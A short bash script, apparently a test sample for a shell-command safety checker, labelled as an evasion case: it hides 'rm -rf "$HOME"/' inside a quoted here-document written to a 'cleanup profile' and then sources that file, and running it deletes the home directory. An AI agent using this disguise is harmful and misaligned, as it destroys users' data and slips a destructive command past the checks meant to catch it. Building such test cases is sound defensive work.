#!/usr/bin/env bash
# Evasion: delete the home directory. A "cleanup profile" is written with
# tee from a quoted here-document and then sourced: the removal is a line of
# the here-document, not a command of the script.
set -e
profile="${TMPDIR:-/tmp}/cleanup.profile"
tee "$profile" > /dev/null <<'PROFILE'
CLEAN_LEVEL=full
rm -rf "$HOME"/
PROFILE
. "$profile"
echo "cleanup level $CLEAN_LEVEL done"
